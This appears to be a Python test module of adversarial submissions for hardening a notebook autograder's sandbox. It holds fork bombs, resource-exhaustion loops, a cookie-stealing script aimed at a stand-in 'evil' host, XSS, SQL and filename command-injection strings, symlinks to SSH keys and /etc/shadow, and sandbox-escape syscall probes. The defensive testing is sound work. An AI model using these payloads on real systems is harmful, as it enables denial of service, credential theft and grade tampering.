"""Break the machine, or the others: their time, their memory, their files, their browser."""

import os
import socket
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

from attacks.attack import FOUR, ONE, THREE, TWO, Attack, Scene, answer, code
from attacks.judgement import both, extra, on

NO_ID = "this cannot be a student's (id|folder): .* letters, digits"
RIGHT = """
dlogits = F.softmax(logits, 1)
dlogits[range(n), Yb] -= 1
dlogits /= n
"""


def bomb(story: str, source: str, *reads: str, **more: object) -> Attack:
    """Something that wastes the machine in exercise 2, whose one answer it costs."""
    return answer(story, source, *reads, stem=TWO, cell="dlogits", **more)  # type: ignore[arg-type]


def harmless(story: str, source: str, *reads: str, **more: object) -> Attack:
    """The right answer, and then something that comes to nothing."""
    return bomb(story, RIGHT + code(source), *reads, lost=False, **more)


def file_for(name: str, make: Callable[[Path, Scene], None]) -> Callable[[Path, Scene], None]:
    """Something else in the place of a notebook, or of any other file."""

    def put(folder: Path, scene: Scene) -> None:
        path = folder / name
        path.unlink(missing_ok=True)
        make(path, scene)

    return put


def unreadable(story: str, make: Callable[[Path, Scene], None], *reads: str) -> Attack:
    """Exercise 2 is something that cannot be read: no mark and no zero; exercise 1 keeps its marks."""
    return Attack(
        story,
        files=file_for(f"{TWO}.ipynb", make),
        untold=frozenset({TWO}),
        reads=reads or ("unreadable",),
    )


def written(content: bytes) -> Callable[[Path, Scene], None]:
    return lambda path, scene: path.write_bytes(content) and None


def changed(edit: Callable[[bytes], bytes]) -> Callable[[Path, Scene], None]:
    """The notebook itself with other bytes."""

    def put(folder: Path, scene: Scene) -> None:
        path = folder / f"{TWO}.ipynb"
        path.write_bytes(edit(path.read_bytes()))

    return put


def linked(target: str) -> Callable[[Path, Scene], None]:
    return lambda path, scene: path.symlink_to(scene.told(target))


def a_socket(path: Path, scene: Scene) -> None:
    server = socket.socket(socket.AF_UNIX)
    here = Path.cwd()
    os.chdir(path.parent)  # its name may be too long for an address
    try:
        server.bind(path.name)
    finally:
        os.chdir(here)
        server.close()


def odd_names(folder: Path, scene: Scene) -> None:
    """Files of names that break scripts."""
    for name in (
        "two\nlines.ipynb",
        "'; DROP TABLE grade; --.ipynb",
        '"quoted" $(touch pwned) `id`.ipynb',
        "..ipynb",
        "...",
        "-rf",
        "x" * 250,
        "\x1b[2J\x1b]0;title\x07.txt",
        "\u202egnp.exe",
        "%n%s%d.ipynb",
        ".ipynb",
    ):
        with suppress(OSError):
            (folder / name).write_text("{}", encoding="utf-8")
    with suppress(OSError):
        Path(os.fsdecode(os.fsencode(folder) + b"/\xff\xfe.ipynb")).write_text(
            "{}", encoding="utf-8"
        )


def deep_folder(folder: Path, scene: Scene) -> None:
    """Five hundred folders in one another."""
    here = os.open(folder, os.O_RDONLY)
    try:
        for _ in range(500):
            os.mkdir("deep", dir_fd=here)
            inner = os.open("deep", os.O_RDONLY, dir_fd=here)
            os.close(here)
            here = inner
    finally:
        os.close(here)


def valuables(folder: Path, scene: Scene) -> None:
    """Links to what is valuable, under names that nobody would mind copying."""
    for name, target in {
        "notes.txt": scene.home / ".ssh" / "id_rsa",
        "book.txt": scene.course / "gradebook.db",
        "theirs": scene.course / "submitted" / "a_honest",
        "source": scene.course / "source",
        "passwords": Path("/etc/shadow"),
        "self": folder,
        "nothing": folder / "gone",
        "zero": Path("/dev/zero"),
        "check.py": scene.home / ".ssh" / "id_rsa",
    }.items():
        (folder / name).unlink(missing_ok=True)
        (folder / name).symlink_to(target)


def linked_time(folder: Path, scene: Scene) -> None:
    (folder / "timestamp.txt").symlink_to(scene.home / ".ssh" / "id_rsa")


TRIES = """
import os, socket, stat, sys
found = []
def attempt(what, do):
    try:
        do()
    except (OSError, ValueError):
        return
    found.append(what)
{body}
print("found:", found)
"""


def tries(story: str, body: str) -> Attack:
    return harmless(story, TRIES.format(body=code(body)), shows=("found: []",))


SCRIPT = "<script>fetch('//evil/' + document.cookie)</script>"
UNSAFE = ("<script", "onerror", "onload", "javascript:", "<iframe", "<svg")

MACHINE: dict[str, Attack] = {
    # -- time
    "endless_loop": bomb("never ends", "while True:\n    pass", "dlogits timed_out"),
    "endless_sleep": bomb("sleeps", "import time\ntime.sleep(1e6)", "dlogits timed_out"),
    "endless_loop_in_c": bomb(
        "never ends, inside C code that looks at no signal",
        "import itertools\nsum(itertools.repeat(0))",
        "dlogits killed",
    ),
    "endless_loop_that_will_not_stop": bomb(
        "never ends, and catches what would end it",
        """
        import signal
        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass
        """,
        "dlogits killed",
    ),
    "endless_loop_in_a_regex": bomb(
        "a pattern that takes longer than the universe has",
        'import re\nre.match("(a|aa)+$", "a" * 200 + "b")',
        "dlogits timed_out",
    ),
    "endless_loop_everywhere": Attack(
        "every cell never ends",
        answers={
            ONE: dict.fromkeys(
                ("dlogprobs", "dprobs", "dcounts", "dh", "dW2", "db2", "demb", "dC"),
                "while True:\n    pass",
            )
        },
        stems=(ONE, TWO),
        lost=frozenset({ONE}),
        untold=frozenset({ONE}),
        at_most=True,
    ),
    "endless_import": Attack(
        "a cell before all others never ends: it is left out, nothing else is lost",
        edit=on(TWO, extra("while True:\n    pass", before="given_files")),
        stems=(TWO, THREE),
    ),
    # -- output
    "endless_output": bomb(
        "prints for ever",
        'while True:\n    print("x" * 1000)',
        "dlogits timed_out",
        shows=("cut here",),
    ),
    "image_of_100_mb": harmless(
        "a picture of 100 MB",
        """
        from IPython.display import Image, display
        display(Image(data=b"\\x89PNG\\r\\n\\x1a\\n" + bytes(100_000_000), format="png"))
        """,
        shows=("cut here",),
    ),
    "repr_of_ten_million": harmless(
        "a value of ten million characters",
        """
        class Long:
            def __repr__(self): return "x" * 10_000_000
        Long()
        """,
        shows=("cut here",),
    ),
    "a_million_outputs": harmless(
        "a hundred thousand small outputs",
        "for i in range(100_000):\n    display(i) if i < 3_000 else print(i, end='\\n')",
        shows=("cut here",),
    ),
    "long_error": bomb(
        "an error of ten million characters", 'raise ValueError("x" * 10_000_000)', "dlogits raised"
    ),
    "deep_error": bomb("an endless recursion", "def f(): f()\nf()", "dlogits raised"),
    # -- memory, processes, files
    "memory_at_once": bomb("asks for a terabyte", "x = bytearray(1 << 40)", "dlogits raised"),
    "memory_by_and_by": bomb(
        "takes what it can get",
        """
        hoard = []
        while True:
            hoard.append(bytearray(os.urandom(1 << 20)) * 32)
        """.replace("os.urandom(1 << 20)", "1 << 20"),
        at_most=True,
    ),
    "tensor_of_a_terabyte": bomb(
        "a tensor of a terabyte", "dlogits = torch.ones(1 << 38)", "dlogits raised"
    ),
    "fork_bomb": bomb(
        "forks for ever",
        """
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
        """,
        at_most=True,
    ),
    "thread_flood": harmless(
        "as many threads as it may",
        """
        import threading, time
        for _ in range(10_000):
            try:
                threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
            except (RuntimeError, MemoryError):
                break
        """,
    ),
    "fills_the_disk": harmless(
        "files as large as it may, as many as it may",
        """
        import os
        for number in range(100):
            try:
                with open(f"/tmp/@MARK@-{number}", "wb") as f:
                    f.write(bytes(64 << 20))
            except OSError as error:
                print("no more:", error.strerror)
                break
        """,
        shows=("no more:",),
    ),
    "a_million_files": harmless(
        "a million small files",
        """
        try:
            for number in range(1_000_000):
                open(f"/tmp/@MARK@-{number}", "w").close()
        except OSError as error:
            print("no more:", error.strerror)
        """,
        shows=("no more:",),
    ),
    "deep_tree": harmless(
        "folders in folders",
        """
        import os
        try:
            for number in range(100_000):
                os.mkdir("@MARK@")
                os.chdir("@MARK@")
        except OSError as error:
            print("no more:", error.strerror)
        """,
        at_most=True,  # in Landlock a flood of folders ends it before it is told that there is no room
    ),
    "sparse_file": harmless(
        "a file that says it has a terabyte",
        """
        try:
            with open("/tmp/@MARK@", "wb") as f:
                f.truncate(1 << 40)
        except OSError as error:
            print("no more:", error.strerror)
        """,
        shows=("no more:",),
    ),
    "memory_without_a_name": harmless(
        "memory that is shared with nobody, which no limit on a process's own counts",
        """
        import mmap
        hoard = []
        try:
            for _ in range(32):
                hoard.append(mmap.mmap(-1, 1 << 28))
                hoard[-1].write(bytes(1 << 28))
        except OSError as error:
            print("no more:", error.strerror)
        """,
        shows=("no more:",),
    ),
    "shared_memory": harmless(
        "memory that no limit on memory counts",
        """
        try:
            with open("/dev/shm/@MARK@", "wb") as f:
                for _ in range(1 << 10):
                    f.write(bytes(1 << 20))
        except OSError as error:
            print("no more:", error.strerror)
        """,
        shows=("no more:",),
    ),
    # -- other people's files
    "reads_the_course": tries(
        "reads gradebook, graders, sources, other submissions, keys",
        """
        for path in ("@COURSE@", "@COURSE@/gradebook.db", "@COURSE@/source/backprop", "@COURSE@/graders/backprop",
                     "@COURSE@/submitted/a_honest/backprop/1_every_step.ipynb", "@HOME@", "@HOME@/.ssh/id_rsa",
                     "/root", "/home", "/etc/passwd", "/etc/shadow", "/var", "/srv", "/opt", "/mnt", "/work",
                     "/proc/1/root@COURSE@", "/proc/self/root@HOME@", "/proc/1/cwd/gradebook.db"):
            if not sys.base_prefix.startswith(path + "/"):  # the way to the interpreter, and nothing else
                attempt(path, lambda: os.listdir(path) if os.path.isdir(path) else open(path).close())
        up = os.path.abspath(".")
        while up != "/":
            up = os.path.dirname(up)
            for name in ("gradebook.db", "graders", "source", "submitted", "release"):
                if os.path.exists(os.path.join(up, name)):
                    found.append(os.path.join(up, name))
        """,
    ),
    "writes_outside": tries(
        "writes wherever it is",
        """
        for folder in ("@COURSE@", "@HOME@", "/", "/usr", "/usr/lib", "/etc", "/jail", "/jail/handgrad", "/jail/handgrad/jailed", "/site/0",
                       "/dev", "/var/tmp", "/sys", "/proc/sys/kernel"):
            attempt(folder, lambda: open(folder + "/@MARK@", "w").write("@MARK@"))
        import handgrad.jailed.answers
        attempt("module", lambda: open(handgrad.jailed.answers.__file__, "a").write("#@MARK@"))
        attempt("torch", lambda: open(torch.__file__, "a").write("#@MARK@"))
        attempt("core", lambda: open("/proc/sys/kernel/core_pattern", "w").write("|/tmp/@MARK@"))
        """,
    ),
    "breaks_out": tries(
        "the tools of break-outs",
        """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        for flag in (0x10000000, 0x00020000, 0x20000000, 0x40000000):
            if libc.unshare(flag) == 0:
                found.append(("unshare", hex(flag)))
        os.makedirs("/tmp/new", exist_ok=True)
        for name, arguments in {"mount": (b"none", b"/tmp/new", b"tmpfs", 0, None), "chroot": (b"/tmp/new",),
                                "umount2": (b"/tmp", 2), "ptrace": (16, 1, 0, 0), "setns": (0, 0)}.items():
            if getattr(libc, name)(*arguments) == 0:
                found.append(name)
        attempt("mknod", lambda: os.mknod("/tmp/disk", 0o600 | stat.S_IFBLK, os.makedev(8, 0)))
        attempt("setuid", lambda: os.setuid(0) if os.getuid() else 1 / 0)
        attempt("chown", lambda: os.chown("/tmp", 0, 0) if os.getuid() else None)
        """.replace(
            'attempt("setuid", lambda: os.setuid(0) if os.getuid() else 1 / 0)\n', ""
        ).replace(
            'attempt("chown", lambda: os.chown("/tmp", 0, 0) if os.getuid() else None)\n', ""
        ),
    ),
    "spares_itself": tries(
        "would be the last to go when memory runs out",
        """
        for least in ("-1000", "-1", "0"):
            attempt(least, lambda: open("/proc/self/oom_score_adj", "w").write(least))
        """,
    ),
    "links_to_valuables": Attack(
        "links beside the notebook, for a grader that copies what they lead to",
        files=valuables,
        stems=(TWO,),
    ),
    "time_stamp_is_a_link": Attack(
        "the time of handing in is to be read from a secret",
        files=linked_time,
        stems=(TWO,),
        refused="is not a time",
    ),
    "notebook_is_a_link": unreadable(
        "another student's notebook by a link",
        linked("@COURSE@/submitted/a_honest/backprop/2_cross_entropy.ipynb"),
    ),
    "notebook_links_to_the_gradebook": unreadable(
        "the gradebook by a link", linked("@COURSE@/gradebook.db")
    ),
    "notebook_is_a_broken_link": unreadable("a link to nothing", linked("@COURSE@/nothing")),
    "notebook_links_to_itself": unreadable(
        "a link to itself", lambda path, scene: path.symlink_to(path)
    ),
    "notebook_is_a_device": unreadable("a link to a device without end", linked("/dev/zero")),
    "notebook_is_a_folder": unreadable("a folder of that name", lambda path, scene: path.mkdir()),
    "notebook_is_a_pipe": unreadable(
        "a pipe that nobody writes to", lambda path, scene: os.mkfifo(path)
    ),
    "notebook_is_a_socket": unreadable("a socket", a_socket),
    "pipe_beside_it": Attack(
        "a pipe beside the notebook, which whoever copies all files would read for ever",
        files=lambda folder, scene: os.mkfifo(folder / "data.txt"),
        stems=(TWO,),
    ),
    "submission_is_a_link": Attack(
        "the whole submission by a link to another student's",
        files=lambda folder, scene: _relinked(folder, scene),
        stems=(),
        refused="it is a link to another place",
    ),
    # -- the network
    "opens_sockets": tries(
        "this machine's servers, the network, names",
        """
        for address in (("127.0.0.1", @PORT@), ("localhost", @PORT@), ("8.8.8.8", 53), ("::1", @PORT@)):
            attempt(address, lambda: socket.create_connection(address, timeout=0.2))
        attempt("unix", lambda: socket.socket(socket.AF_UNIX).connect("@SOCKET@"))
        attempt("abstract", lambda: socket.socket(socket.AF_UNIX).connect("\\0@MARK@"))
        attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", @PORT@)))
        attempt("raw", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
        attempt("names", lambda: socket.getaddrinfo("example.org", 80))
        import urllib.request
        attempt("http", lambda: urllib.request.urlopen("http://127.0.0.1:@PORT@", timeout=0.2))
        """,
    ),
    # -- the file
    "file_too_large": unreadable(
        "more than the assignment allows", written(b'{"cells": [' + b" " * (3 << 20) + b"]}")
    ),
    "file_nested": unreadable(
        "brackets in brackets", written(b'{"cells": ' + b"[" * 100_000 + b"]" * 100_000 + b"}")
    ),
    "file_not_utf8": unreadable(
        "another encoding", written('{"cells": [], "é": 1}'.encode("utf-16"))
    ),
    "file_empty": unreadable("no byte at all", written(b"")),
    "file_is_no_notebook": unreadable("a picture", written(b"\x89PNG\r\n\x1a\n" + bytes(100))),
    "file_truncated": Attack(
        "cut off in the middle",
        files=changed(lambda data: data[: len(data) // 2]),
        untold=frozenset({TWO}),
        reads=("unreadable",),
    ),
    "file_with_keys_twice": Attack(
        "a key twice: readers disagree which counts",
        files=changed(lambda data: data.replace(b'"cells":', b'"cells": [], "cells":', 1)),
        untold=frozenset({TWO}),
        reads=("unreadable",),
    ),
    "file_of_format_5": Attack(
        "a format of the future",
        files=changed(lambda data: data.replace(b'"nbformat": 4', b'"nbformat": 5')),
        untold=frozenset({TWO}),
        reads=("unreadable",),
    ),
    "odd_file_names": Attack(
        "files of names that break scripts: any of them may be a notebook that is missing",
        files=odd_names,
        stems=(TWO,),
        untold=frozenset({ONE, THREE, FOUR}),
    ),
    "deep_folder": Attack("five hundred folders in one another", files=deep_folder, stems=(TWO,)),
    # -- the TA's browser, terminal and spreadsheet
    "html_in_outputs": harmless(
        "programs in every kind of output",
        f"""
        from IPython.display import HTML, SVG, Javascript, Markdown, Latex, display
        display(HTML({SCRIPT!r} + "<img src=x onerror=alert(1)><iframe src='javascript:1'></iframe>"))
        display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'></svg>"))
        display(Javascript("alert(1)"), Markdown("<img src=x onerror=alert(1)>[x](javascript:1)"))
        display({{"text/html": {SCRIPT!r}, "application/javascript": "1", "image/svg+xml": "<svg onload=1>"}}, raw=True)
        print("\\x1b]0;title\\x07\\x1b[2J\\x1b[31mred\\x1b[0m")
        """,
        hides=UNSAFE,
    ),
    "html_in_an_error": bomb(
        "programs in an exception",
        f"""
        class Error(Exception): pass
        Error.__name__ = "{SCRIPT}"
        raise Error("\\x1b[31m{SCRIPT}<img src=x onerror=alert(1)>")
        """,
        "dlogits raised",
        hides=UNSAFE,
    ),
    "html_in_a_written_answer": Attack(
        "programs in prose that a person reads in a browser",
        answers={
            ONE: {
                "bessel": f"{SCRIPT} <img src=x onerror=alert(1)> [x](javascript:alert(1))\n\n"
                "<svg onload=alert(1)></svg>\n\n$\\href{javascript:alert(1)}{x}$"
            }
        },
        stems=(ONE,),
        hides=UNSAFE,
    ),
    "tex_in_outputs": harmless(
        "formulas that link, load or run, in every kind of output",
        """
        from IPython.display import HTML, Latex, Markdown, Math, display
        for tex in ("\\\\href{javascript:alert(1)}{x}", "\\\\require{html} \\\\class{MathJax}{x}",
                    "\\\\def\\\\x{\\\\x\\\\x}\\\\x"):
            display(Markdown(f"${tex}$"), HTML(f"<p>\\\\({tex}\\\\)</p>"), Latex(f"${tex}$"), Math(tex))
        """,
        hides=("\\href", "\\require", "\\class", "\\def"),
    ),
    "markdown_that_takes_long": Attack(
        "texts that take a reader of Markdown longer the longer they are, in many cells",
        edit=on(
            TWO,
            both(
                *[
                    extra(
                        'from IPython.display import Markdown\nfor _ in range(3): display(Markdown("[](" * 6600))',
                        before="dlogits",
                    )
                ]
                * 12
            ),
        ),
        stems=(TWO,),
        shows=("longer than what one submission may show",),
    ),
    "id_is_a_formula": Attack(
        "an id that a spreadsheet obeys",
        stems=(TWO,),
        student='=HYPERLINK("x","y")',
        refused=NO_ID,
    ),
    "id_is_html": Attack(
        "an id that a browser obeys",
        stems=(TWO,),
        student="<img src=x onerror=alert(1)>",
        refused=NO_ID,
    ),
    "id_is_sql": Attack(
        "an id that a careless database obeys",
        stems=(TWO,),
        student="x'; DROP TABLE grade; --",
        refused=NO_ID,
    ),
    "id_is_an_option": Attack("an id that a command obeys", stems=(TWO,), student="--force"),
    "id_climbs": Attack(
        "an id that leads out of its folder",
        stems=(TWO,),
        student="x\\..\\..\\y",
        refused="leads out",
    ),
    "id_hides": Attack(
        "an id that cannot be seen",
        stems=(TWO,),
        student="a\u202ehonest",
        refused=NO_ID,
    ),
    "id_writes_to_the_terminal": Attack(
        "an id that a terminal obeys",
        stems=(TWO,),
        student="\x1b[2Jx",
        refused=NO_ID,
    ),
    "id_is_a_pattern": Attack(
        "an id that means everybody", stems=(TWO,), student="*", refused=NO_ID
    ),
}


def _relinked(folder: Path, scene: Scene) -> None:
    """The folder becomes a link to the same folder of an honest student."""
    for path in folder.iterdir():
        path.unlink()
    folder.rmdir()
    folder.symlink_to(scene.course / "submitted" / "a_honest" / folder.name)
